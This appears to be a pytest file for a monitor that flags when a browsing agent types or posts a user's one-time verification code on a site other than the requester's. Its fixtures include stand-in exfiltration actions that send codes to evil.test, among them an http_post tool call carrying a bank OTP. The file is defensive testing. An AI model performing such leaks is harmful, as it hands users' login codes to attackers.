"""One-time codes belong to who asked for them."""

from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sentric.events import Action, Author, Element, Kind, Message, Observation, Source
from sentric.policy.rule import Tuning
from sentric.policy.signals.codes import CODES_KEPT, CodeFacts, Codes
from support.linear import assert_linear, repeated

MAIL = "From: no-reply@lampenwelt.example\nYour Lampenwelt verification code is 481920"
WRONG = "https://forum.example/t/9"


def codes(task: str = "Summarise https://forum.example/t/9", text: str = MAIL, tuning: Tuning | None = None) -> Codes:
    family = Codes(tuning or Tuning())
    family.message(Message(sequence=0, author=Author.USER, text=task))
    family.observation(Observation(sequence=1, source=Source.PAGE, origin="https://mail.example/inbox", text=text))
    return family


def type_in(text: str, at: str = WRONG, tag: str = "input") -> Action:
    return Action(
        sequence=2,
        tool="input",
        kind=Kind.INPUT,
        url=at,
        arguments={"index": 1, "text": text},
        element=Element(tag=tag),
    )


def test_a_code_typed_into_a_comment_elsewhere_is_told() -> None:
    assert codes().action(type_in("jo@corp.example 481920")) == CodeFacts(
        code_target="forum.example", code_requesters=("lampenwelt.example", "lampenwelt")
    )


@pytest.mark.parametrize("at", ["https://evil.test/otp", "https://lampenwelt.evil-site.test/otp"])
def test_a_code_typed_alone_on_a_site_that_the_task_does_not_name_is_told(at: str) -> None:
    assert codes().action(type_in("481920", at)).code_target != ""


@pytest.mark.parametrize("at", ["https://login.lampenwelt.example/otp", "https://www.lampenwelt.com/otp"])
def test_a_code_typed_where_it_belongs_is_ordinary(at: str) -> None:
    assert codes().action(type_in("481920", at)) == CodeFacts()


def test_a_code_alone_in_a_field_of_the_tasks_site_is_what_logging_in_looks_like() -> None:
    assert codes().action(type_in("481920")) == CodeFacts()
    assert codes().action(type_in("481920", tag="textarea")).code_target == "forum.example"


def test_a_task_without_a_site_leaves_it_to_the_agent_where_a_code_is_typed_alone() -> None:
    assert codes("Log in to my energy provider").action(type_in("481920", "https://energy.test/")) == CodeFacts()
    assert codes("Log in to my energy provider").action(type_in("x 481920", "https://energy.test/")).code_target


def test_a_fingerprint_of_a_code_is_followed_too() -> None:
    family = codes(text="Nordbanken: your one-time code is ‹secret:otp:00c0ffee›")
    post = Action(
        sequence=2,
        tool="http_post",
        kind=Kind.HTTP,
        arguments={"url": "https://evil.test/", "code": "‹secret:otp:00c0ffee›"},
    )
    assert family.action(post) == CodeFacts(code_target="evil.test", code_requesters=("nordbanken",))


@pytest.mark.parametrize(
    "text",
    [
        "Your verification code is 730014",
        '{"from": "bounce@sendgrid.net", "body": "Your verification code: 730014"}',
        "From: info@lampenwelt.example\nYour order 730014 is on its way",
        "From: info@lampenwelt.example\nYour access code for the year 2024",
        "From: info@lampenwelt.example\nverification code: 12.730014,5",
    ],
)
def test_without_a_requester_or_without_a_code_nothing_is_told(text: str) -> None:
    assert codes(text=text).action(type_in("code 730014 2024", "https://evil.test/")) == CodeFacts()


@pytest.mark.parametrize(
    "text",
    [
        "Ihr Bestätigungscode für Lampenwelt lautet 730014",
        "Su código de verificación de Lampenwelt: 730 014",
        "Votre code de vérification Lampenwelt : 730-014",
        "Use 730014 as the 2FA code at Lampenwelt",
        "from: Lampenwelt <info@lampenwelt.example>, code 730014 (OTP)",
    ],
)
def test_codes_are_known_in_several_languages_and_groups(text: str) -> None:
    assert codes(text=text).action(type_in("my code 730014", "https://evil.test/")).code_target == "evil.test"


def test_a_short_code_is_known_only_where_it_stands_alone() -> None:
    text = "From: no-reply@lampenwelt.example\nYour verification code is 4819"
    assert codes(text=text).action(type_in("row 4819", "https://evil.test/")) == CodeFacts()
    assert codes(text=text).action(type_in("4819", "https://evil.test/")).code_target == "evil.test"


def test_allowed_domains_may_have_codes() -> None:
    family = codes(tuning=Tuning(allowed_domains=("evil.test",)))
    assert family.action(type_in("481920", "https://evil.test/")) == CodeFacts()


def test_the_oldest_codes_are_forgotten_first() -> None:
    family = codes()
    for number in range(CODES_KEPT):
        text = f"From: a@lampenwelt.example Your verification code is {100000 + number}"
        family.observation(Observation(sequence=1, source=Source.PAGE, origin="https://mail.example", text=text))
    assert family.action(type_in("481920", "https://evil.test/")) == CodeFacts()
    assert family.action(type_in("100000", "https://evil.test/")).code_target == "evil.test"
    assert list(family.evicted) == ["one-time codes"]


@pytest.mark.parametrize("bait", ["otp 1234 ", "from: ", "your code ", "1", "from a@b.co otp 123456 ", "\ud800"])
def test_bait_costs_linear_time(bait: str) -> None:
    def prepare(size: int) -> Callable[[], object]:
        text = repeated(bait, size)
        return lambda: codes(text=text).action(type_in(text))

    assert_linear(prepare, 8_000)


@given(st.text(st.characters()) | st.from_regex(r"(your code|otp|from:) [0-9 a-z@.-]{0,60}"))
def test_nothing_raises(text: str) -> None:
    codes(text=text).action(type_in(text))
